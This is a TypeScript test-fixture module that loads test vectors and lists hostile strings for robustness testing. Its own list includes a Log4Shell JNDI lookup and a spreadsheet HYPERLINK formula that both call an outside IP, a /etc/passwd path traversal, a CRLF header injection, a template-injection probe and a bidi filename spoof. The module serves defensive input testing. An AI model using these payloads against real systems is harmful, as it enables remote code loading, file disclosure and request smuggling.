import { readFileSync } from 'node:fs';

const read = (name: string): unknown => JSON.parse(readFileSync(`test/vectors/${name}.json`, 'utf8'));

export interface JsonText {
  readonly name: string;
  /** What a reader of JSON must do with the bytes. */
  readonly expect: 'accept' | 'reject' | 'either';
  readonly bytes: Buffer;
}

type StoredText = Pick<JsonText, 'name' | 'expect'> & ({ readonly b64: string } | { readonly repeat: readonly [piece: string, times: number] });

/** Byte sequences that are JSON, are none, or are one of the two by the reader's choice. */
export function jsonTexts(): readonly JsonText[] {
  const bytesOf = (text: StoredText): Buffer => ('b64' in text ? Buffer.from(text.b64, 'base64') : Buffer.from(text.repeat[0].repeat(text.repeat[1])));
  return (read('json-texts') as StoredText[]).map((text) => ({ name: text.name, expect: text.expect, bytes: bytesOf(text) }));
}

/** What nobody's list holds: what PostgreSQL, JSON, a spreadsheet or a screen trips over. */
const OWN: readonly string[] = [
  'a\u0000b',
  'half \ud800 a pair',
  'bidi \u202egnp.exe\u202c',
  'zero\u200bwidth\ufeff',
  `e${'\u0301'.repeat(9_000)}`,
  '长'.repeat(60_000),
  '=HYPERLINK("http://192.0.2.1","x")',
  '＝1＋1',
  '\u001b[31mred\u001b[0m',
  'a\r\nX-Injected: 1',
  '${jndi:ldap://192.0.2.1/a}',
  '{{7*7}}',
  '../../etc/passwd',
  '9007199254740993',
  '370202199001011260',
  '１３８００００００００',
  '\ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67',
];

/** Texts that break programs: naughty strings, scripts, SQL, query objects, values of formats, and our own. Each once. */
export function hostileTexts(): readonly string[] {
  const injection = read('injection') as Readonly<Record<string, readonly string[]>>;
  const formats = read('format-values') as Readonly<Record<string, readonly (readonly [valid: boolean, value: string])[]>>;
  const values = Object.values(formats).flatMap((pairs) => pairs.map(([, value]) => value));
  return [...new Set([...OWN, ...(read('naughty-strings') as string[]), ...Object.values(injection).flat(), ...values])];
}

export interface CloudEvent {
  readonly binding: 'kafka' | 'http';
  readonly headers: Readonly<Record<string, string>>;
  readonly payload: string;
}

export const cloudEvents = (): readonly CloudEvent[] => read('cloud-events') as CloudEvent[];

/** JSON values that stand where another kind of value is expected. */
export const WRONG_VALUES: readonly unknown[] = [
  null,
  true,
  0,
  -1,
  2 ** 53,
  1e308,
  '',
  '\u0000',
  '__proto__',
  [],
  [[]],
  {},
  { toString: 1 },
  'x'.repeat(300_000),
];
